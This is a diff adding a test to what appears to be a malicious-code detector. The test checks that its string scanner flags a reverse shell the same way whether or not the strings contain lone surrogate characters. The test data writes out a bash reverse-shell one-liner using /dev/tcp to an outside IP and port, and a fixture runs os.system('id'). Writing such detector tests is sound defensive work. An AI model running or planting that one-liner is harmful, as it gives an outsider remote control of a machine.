@@ -30,6 +30,8 @@ from detector.code.pyast import (
     qualified,
     walk,
 )
+from detector.code.regex import encodable
+from detector.code.textscan import scan_strings
 
 SOURCES = [
     "import os\nx = os.system('id')\n",
@@ -159,3 +161,14 @@ def test_inlined_kind_walk_matches_the_plain_walk(source):
         assert {"decode", "dynamic"} <= answers
     if source == KIND_SOURCES[-2]:
         assert {"net", "local-file"} <= answers
+
+
+def test_string_scan_replaces_lone_surrogates_once_with_the_same_findings():
+    shell = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
+    strings = [(1, "a\ud800b"), (2, "\udfff" + shell), (3, "plain text here"),
+               (4, "x\ud83d\ude00" + shell), (5, shell)]
+    found = scan_strings("s.py", "install", strings, 10_000, 10)
+    replaced = scan_strings("s.py", "install", [(n, encodable(t)) for n, t in strings],
+                            10_000, 10)
+    assert [f.to_dict() for f in found] == [f.to_dict() for f in replaced]
+    assert {f.line for f in found if f.rule == "reverse-shell"} == {2, 4, 5}
